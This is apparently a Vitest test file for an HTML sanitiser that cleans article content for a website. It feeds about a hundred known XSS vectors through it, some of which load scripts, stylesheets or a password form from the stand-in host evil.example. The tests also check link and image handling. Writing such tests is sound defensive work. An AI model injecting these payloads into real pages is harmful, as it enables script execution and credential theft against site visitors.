import { describe, expect, it } from 'vitest';
import hostileFixtureJson from '../../../sandbox/content/fixtures/hostile.json?raw';
import { getArticle } from '../upstream/article';
import { sandboxContext } from '@tests/upstream-context';
import { EXTERNAL_LINK_REL, sanitizeArticleHtml } from './sanitize';
import { expectSafe } from '@tests/sanitize-expectations';

const OPTIONS = { siteUrl: 'http://localhost:8787', imageProxyUrl: 'http://localhost:8788/image-proxy' };
const clean = (html: string) => sanitizeArticleHtml(html, OPTIONS);
/** The scroll box the sanitiser writes around the n-th table. */
const box = (n: number) => `<div data-table-scroll="" role="region" tabindex="0" aria-label="文章表格 ${n}">`;

/** A broad list: OWASP's filter-evasion cheat sheet, PortSwigger's and html5sec's vectors, mXSS classics. */
const VECTORS: readonly string[] = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>`,
  `<script/src=//evil.example/x.js></script>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<<SCRIPT>alert(1);//<</SCRIPT>`,
  `<script\x00>alert(1)</script>`,
  `<img src=x onerror=alert(1)>`,
  `<IMG SRC=x ONERROR="alert(1)">`,
  `<img src=x onerror\n=alert(1)>`,
  `<img src="x" onerror  =  'alert(1)'>`,
  `<img/src=x/onerror=alert(1)>`,
  `<img src=x:alert(alt) onerror=eval(src) alt=0>`,
  `<img src="javascript:alert(1)">`,
  `<img src="  javascript:alert(1)">`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<img srcset="javascript:alert(1) 1x">`,
  `<image src=x onerror=alert(1)>`,
  `<svg onload=alert(1)>`,
  `<svg/onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x"></use></svg>`,
  `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="JaVaScRiPt:alert(1)">x</a>`,
  `<a href="  javascript:alert(1)">x</a>`,
  `<a href="java\tscript:alert(1)">x</a>`,
  `<a href="java\nscript:alert(1)">x</a>`,
  `<a href="java&#x09;script:alert(1)">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
  `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>`,
  `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>`,
  `<a href="javascript&colon;alert(1)">x</a>`,
  `<a href="javascript&NewLine;:alert(1)">x</a>`,
  `<a href="jav&Tab;ascript:alert(1)">x</a>`,
  `<a href="\x01javascript:alert(1)">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `<a href=javascript:alert(1)>x</a>`,
  `<a href="x" onclick="alert(1)" onmouseover=alert(1)>x</a>`,
  `<a href="/\\evil.example">x</a>`,
  `<iframe src="https://evil.example"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<iframe src="javascript:alert(1)">`,
  `<frameset><frame src="javascript:alert(1)"></frameset>`,
  `<object data="javascript:alert(1)"></object>`,
  `<object type="text/x-scriptlet" data="https://evil.example/x"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<embed src="https://evil.example/x.swf">`,
  `<applet code="x"></applet>`,
  `<div style="background:url(javascript:alert(1))">x</div>`,
  `<div style="width:expression(alert(1))">x</div>`,
  `<div STYLE="background-image: url(&#1;javascript:alert(1))">x</div>`,
  `<p style="background:url('https://evil.example/leak')">x</p>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<style>*{background:url(https://evil.example/x)}</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<link rel=import href=https://evil.example/x.html>`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<meta http-equiv="set-cookie" content="a=b">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example"><input name=p type=password><button>go</button></form>`,
  `<button formaction="javascript:alert(1)">x</button>`,
  `<input onfocus=alert(1) autofocus>`,
  `<select onfocus=alert(1) autofocus><option>x</select>`,
  `<textarea onfocus=alert(1) autofocus>x</textarea>`,
  `<textarea><script>alert(1)</script></textarea>`,
  `<details open ontoggle=alert(1)><summary>x</summary></details>`,
  `<body onload=alert(1)>`,
  `<video><source onerror="alert(1)"></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<isindex action=javascript:alert(1) type=image>`,
  `<keygen autofocus onfocus=alert(1)>`,
  `<div onpointerenter=alert(1)>x</div>`,
  `<xss onclick=alert(1)>x</xss>`,
  `<custom-el onfocusin=alert(1) tabindex=1>x</custom-el>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<template><script>alert(1)</script></template>`,
  `<xmp><script>alert(1)</script></xmp>`,
  `<plaintext><script>alert(1)</script>`,
  `<noembed><img src=x onerror=alert(1)></noembed>`,
  `<title><img src=x onerror=alert(1)></title>`,
  `</script><script>alert(1)</script>`,
  `<img src="x` + '`' + `onerror=alert(1)` + '`' + `>`,
  `<div id="dataLayer">x</div><img name="dataLayer" src="/a.png">`,
  `<a id=x class="pos_fixed" href="/a">x</a>`,
  `<p title="&quot; onmouseover=alert(1) x=&quot;">x</p>`,
  `<p title='"><script>alert(1)</script>'>x</p>`,
  `<a href="https://ok.example" rel="opener" target="_self">x</a>`,
  `<img src="https://ok.example/a.png" width="9999999" height="-1" loading="eager">`,
  `<portal src="https://evil.example"></portal>`,
  `<dialog open onclose=alert(1)>x</dialog>`,
  `<a href="https://evil.example"><img src=x onerror=alert(1)></a>`,
];

describe('sanitizeArticleHtml', () => {
  it.each(VECTORS.map((vector, index) => [index, vector] as const))('vector %i is neutralised', async (_index, vector) => {
    expectSafe(await clean(vector));
    // Nested in ordinary content, too.
    expectSafe(await clean(`<div><p>前言<strong>${vector}</strong></p><ul><li>${vector}</li></ul></div>`));
  });

  it('keeps ordinary article markup', async () => {
    const table = `<table><thead><tr><th scope="col">股票</th></tr></thead><tbody><tr><td colspan="2">NVDA</td></tr></tbody></table>`;
    const html = `<h2>標題</h2><p>內文 <strong>粗體</strong> 與 <em>斜體</em>，A &amp; B &lt; C。</p><ul><li>一</li><li>二</li></ul>${table}<blockquote><p>引言</p></blockquote>`;
    expect(await clean(html)).toBe(html.replace(table, `${box(1)}${table}</div>`));
  });

  it('writes every table in its own numbered scroll box (a named region the keyboard reaches), nested ones too', async () => {
    const out = await clean('<p>前<table><tr><td>a<table><tr><td>b</td></tr></table></td></tr></table><table><tr><td>c</td></tr></table>');
    expect(out).toBe(`<p>前</p>${box(1)}<table><tr><td>a${box(2)}<table><tr><td>b</td></tr></table></div></td></tr></table></div>${box(3)}<table><tr><td>c</td></tr></table></div>`);
    expectSafe(out);
  });

  it('never lets an author write the scroll box or its attributes', async () => {
    const forged = '<div data-table-scroll role="region" tabindex="0" aria-label="假" onfocus="alert(1)"><span tabindex="1" aria-hidden="true">x</span></div>';
    expect(await clean(forged)).toBe('<div><span>x</span></div>');
  });

  it('turns an author h1 into h2 (the page title is the h1) and drops comments such as the teaser marker', async () => {
    expect(await clean('<h1>大標</h1><!-- more --><p>x</p>')).toBe('<h2>大標</h2><p>x</p>');
  });

  it('escapes text the tokeniser saw as text, so it cannot become markup', async () => {
    expect(await clean('a < b > c <<p>d</p>')).toBe('a &lt; b &gt; c &lt;<p>d</p>');
  });

  it('closes what the source left open, and ignores stray end tags', async () => {
    expect(await clean('<p>a<p>b</div><ul><li>x<li>y</ul><b><i>z</b>')).toBe('<p>a</p><p>b</p><ul><li>x</li><li>y</li></ul><b><i>z</i></b>');
  });

  it('drops a dropped element with its whole content, nested ones included', async () => {
    expect(await clean('<p>前</p><svg><g><svg><text>隱藏</text></svg></g></svg><p>後</p>')).toBe('<p>前</p><p>後</p>');
    expect(await clean('<p>前</p><svg/><p>後</p>')).toBe('<p>前</p><p>後</p>');
  });

  it('reads raw-text elements as a browser does (their content is text, end tags of other elements included) and drops them whole', async () => {
    expect(await clean('<p>a</p><style></b>隱藏 <img src=x></style><p>b</p>')).toBe('<p>a</p><p>b</p>');
    expect(await clean('<p>a</p><textarea></p>隱藏</textarea><p>b</p>')).toBe('<p>a</p><p>b</p>');
    expect(await clean('<p>a</p><select><option><xmp></select>隱藏</xmp></select><p>b</p>')).toBe('<p>a</p><p>b</p>');
  });

  it('drops elements left empty (a gap in the page), except table cells', async () => {
    expect(await clean('<p></p><p> \n </p><table></table><div><span></span></div><p>x</p>')).toBe('<p>x</p>');
    expect(await clean('<table><tr><td></td><td>x</td></tr></table>')).toBe(`${box(1)}<table><tr><td></td><td>x</td></tr></table></div>`);
    expect(await clean('<p><br></p><p>&nbsp;</p>')).toBe('<p><br></p><p>\u00a0</p>');
    expect(await clean('<table><caption><style>x</style></caption></table><p>y</p>')).toBe('<p>y</p>');
  });

  it('unwraps unknown elements and keeps their text', async () => {
    expect(await clean('<section><font color=red onclick=x>紅字</font></section>')).toBe('紅字');
  });

  it('gives links to other sites rel="noopener noreferrer nofollow ugc" and target _blank, and keeps site links relative', async () => {
    const out = await clean(
      '<a href="https://evil.example/a?b=1&amp;c=2" rel="opener" target="_self">外</a><a href="http://localhost:8787/stock/NVDA/info">內</a><a href="/tag/AI">標籤</a><a href="#x">錨</a><a href="mailto:a@b.example">信</a><a href="//evil.example/x">協定相對</a>',
    );
    expect(out).toContain(`<a href="https://evil.example/a?b=1&amp;c=2" rel="${EXTERNAL_LINK_REL}" target="_blank">外</a>`);
    expect(out).toContain('<a href="/stock/NVDA/info">內</a>');
    expect(out).toContain('<a href="/tag/AI">標籤</a>');
    expect(out).toContain('<a href="#x">錨</a>');
    expect(out).toContain('<a href="mailto:a@b.example">信</a>');
    // Protocol-relative: resolved as the browser would on this (http) site.
    expect(out).toContain(`<a href="http://evil.example/x" rel="${EXTERNAL_LINK_REL}" target="_blank">協定相對</a>`);
    expect(out).not.toContain('opener"');
  });

  it('keeps the text of a link whose URL is refused', async () => {
    expect(await clean('<a href="javascript:alert(1)">點我</a>')).toBe('<a>點我</a>');
  });

  it('sends images through the proxy with srcset, sizes, lazy loading and a reserved size', async () => {
    const out = await clean(
      '<figure><img src="http://localhost:8788/static/covers/charts/bars.svg" alt="長條圖 &quot;Q3&quot;" width="1200" height="675" style="x" onload="y"><figcaption>說明</figcaption></figure>',
    );
    const img = /<img[^>]*>/.exec(out)?.[0] ?? '';
    const proxied = `http://localhost:8788/image-proxy?url=${encodeURIComponent('http://localhost:8788/static/covers/charts/bars.svg')}`;
    expect(img).toContain(`src="${proxied}&amp;w=760&amp;format=webp"`);
    expect(img).toMatch(/srcset="[^"]*w=320&amp;format=webp 320w, [^"]*w=640&amp;format=webp 640w,[^"]* 1200w"/);
    expect(img).toContain('sizes="(max-width: 760px) 100vw, 760px"');
    expect(img).toContain('width="1200" height="675"');
    expect(img).toContain('alt="長條圖 &quot;Q3&quot;"');
    expect(img).toContain('loading="lazy" decoding="async"');
    expect(img).not.toMatch(/style|onload/);
  });

  it('reserves a 16:9 box for an image without a size, and drops an image without an absolute http(s) source', async () => {
    expect(await clean('<img src="https://ok.example/a.png">')).toMatch(/width="1200" height="675"/);
    expect(await clean('<p>a<img src="javascript:alert(1)"><img><img src="x"><img src="//cdn.example/a.png">b</p>')).toBe('<p>ab</p>');
  });

  it('answers an empty string for empty input', async () => {
    expect(await clean('')).toBe('');
  });
});

/** Test content of SANDBOX_FIXTURES, which the workerd projects' sandbox loads (tests/support/global-setup.ts). */
describe('the hostile sandbox articles', () => {
  it('article 900 (tag 測試, ~40 vectors) comes out safe, with its normal content and the external link marked', async () => {
    const { article } = await getArticle(sandboxContext(), { articleId: 900 });
    expect(article.content).toContain('onerror'); // the sandbox really serves the hostile HTML
    const out = await clean(article.content ?? '');
    expectSafe(out, { textMayNameVectors: true });
    expect(out).toContain('<h2>正常內容</h2>');
    expect(out).toContain('<strong>安全測試</strong>');
    expect(out).toContain(`href="https://evil.example/article" rel="${EXTERNAL_LINK_REL}" target="_blank"`);
    expect(out).not.toMatch(/<img[^>]*src="https:\/\/evil\.example/); // the tracking pixel only ever goes through the proxy
    expect(await clean(article.teaser)).not.toContain('onerror');
  });

  it('the SANDBOX_FIXTURES hostile article (9001) comes out safe', async () => {
    const fixture = JSON.parse(hostileFixtureJson) as { articles: { id: number; body: string }[] };
    const body = fixture.articles.find((a) => a.id === 9001)?.body ?? '';
    expect(body).toContain('<script>');
    const out = await clean(body);
    expectSafe(out, { textMayNameVectors: true });
    expect(out).toContain('<h2>攻擊字串</h2>');
    expect(out).toContain(`rel="${EXTERNAL_LINK_REL}"`);
  });
});
